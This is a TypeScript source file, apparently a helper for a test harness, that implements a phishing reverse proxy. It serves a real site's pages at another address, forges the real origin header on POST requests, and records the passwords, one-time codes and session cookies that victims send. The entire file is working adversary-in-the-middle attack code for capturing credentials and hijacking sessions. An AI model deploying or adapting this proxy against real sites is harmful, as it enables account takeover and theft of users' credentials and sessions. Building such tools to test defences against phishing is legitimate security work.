import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { buffer } from 'node:stream/consumers'
import type { Target } from './tab.ts'

export type PhishingProxy = {
  url: string
  /** The bodies that the victims sent: their passwords and codes. */
  bodies: Record<string, string>[]
  /** The session cookie of each sign-in, the newest last. */
  cookies: string[]
  close(): void
}

/** Serves the real pages at another address. It forwards every request with the real origin and keeps what it sees. */
export async function startPhishingProxy({ url, origin }: Target): Promise<PhishingProxy> {
  const bodies: PhishingProxy['bodies'] = []
  const cookies: string[] = []
  const server = createServer(async (request, response) => {
    const body = await buffer(request)
    if (body.length > 0) bodies.push(JSON.parse(body.toString()) as Record<string, string>)
    const answer = await fetch(url + request.url, {
      method: request.method ?? 'GET',
      headers: {
        'content-type': 'application/json',
        ...(request.method === 'POST' && { origin }),
        ...(request.headers.cookie && { cookie: request.headers.cookie }),
      },
      ...(request.method === 'POST' && { body }),
    })
    const set = answer.headers.getSetCookie()
    cookies.push(...set.map((cookie) => cookie.split(';', 1)[0] ?? '').filter((pair) => /session=./.test(pair)))
    response.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? '', 'set-cookie': set })
    response.end(Buffer.from(await answer.arrayBuffer()))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://localhost:${(server.address() as AddressInfo).port}`,
    bodies,
    cookies,
    close() {
      server.close()
      server.closeAllConnections()
    },
  }
}
